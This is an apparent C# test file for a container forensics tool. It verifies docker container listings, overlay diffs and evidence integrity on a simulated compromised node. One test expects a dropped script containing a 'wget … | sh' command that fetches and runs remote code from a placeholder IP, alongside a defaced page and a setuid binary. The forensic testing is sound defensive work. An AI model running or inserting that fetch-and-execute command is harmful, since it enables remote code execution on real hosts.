using System.Text.Json;
using EksIr.Core.Containers;
using EksIr.Core.Containers.Overlay;
using EksIr.Core.Evidence;

namespace EksIr.Core.Tests.Containers;

[Collection(DockerNodeCollection.Name)]
public sealed class DockerStoreTests(DockerNode node)
{
    private EvidenceRoot Root => new(node.Root);

    [DockerFact]
    public void Containers_match_docker_ps()
    {
        // docker ps -a --no-trunc --format '{{json .}}': ID, Names, Image, State, Labels...
        var expected = File.ReadAllLines(Path.Combine(node.Root, ".docker-ps.jsonl"))
            .Select(l => JsonDocument.Parse(l).RootElement)
            .Select(e => (Id: e.GetProperty("ID").GetString()!, Name: e.GetProperty("Names").GetString()!, Image: e.GetProperty("Image").GetString()!, State: e.GetProperty("State").GetString()!))
            .OrderBy(c => c.Id, StringComparer.Ordinal);

        var listing = NodeContainers.List(Root);

        Assert.Empty(listing.Problems);
        Assert.Equal(expected, listing.Containers.Select(c => (c.Id, c.Name, c.Image, c.State)).OrderBy(c => c.Id, StringComparer.Ordinal));
        var web = Assert.Single(listing.Containers);
        Assert.Equal("docker", web.Runtime);
        Assert.Equal(new PodRef("shop-7d9f", "default", DockerNode.PodUid), web.Pod);
        Assert.Equal("web", web.ContainerName);
        Assert.StartsWith("sha256:", web.ImageId);
    }

    [DockerFact]
    public void Diff_matches_docker_diff_line_for_line()
    {
        var expected = File.ReadAllLines(Path.Combine(node.Root, ".docker-diff.txt")).Order(StringComparer.Ordinal).ToArray();
        var (_, fs) = ContainerFilesystems.Open(Root, "web");

        var actual = OverlayDiff.Changes(fs).Select(c => $"{c.Change} {c.Path}").Order(StringComparer.Ordinal).ToArray();

        Assert.Equal(expected, actual);
    }

    [DockerFact]
    public void The_merged_view_shows_the_defaced_page_the_dropped_script_and_the_deleted_passwd()
    {
        var (_, fs) = ContainerFilesystems.Open(Root, "shop-7d9f/web");

        Assert.Equal("<h1>owned</h1>\n", new StreamReader(fs.OpenRead("/var/www/index.html")).ReadToEnd());
        Assert.Contains("wget -q -O- http://203.0.113.50/p | sh", new StreamReader(fs.OpenRead("/tmp/.cache/run.sh")).ReadToEnd());
        Assert.Null(fs.Lookup("/etc/passwd"));
        var updater = fs.Lookup("/usr/local/bin/updater")!;
        Assert.Equal("-rwsr-xr-x", updater.Status.ModeString());
        Assert.Equal(5, fs.Layers.Count); // rw, init, two RUN layers, base
        Assert.EndsWith("-init/diff", fs.Layers[1].EvidencePath);
    }

    [DockerFact]
    public void Reading_the_docker_node_leaves_it_byte_identical()
    {
        var before = EvidenceTree.Hash(node.Root);

        NodeContainers.List(Root);
        var (_, fs) = ContainerFilesystems.Open(Root, "web");
        OverlayDiff.Changes(fs).ToList();
        fs.Walk().ToList();

        Assert.Equal(before, EvidenceTree.Hash(node.Root));
    }
}
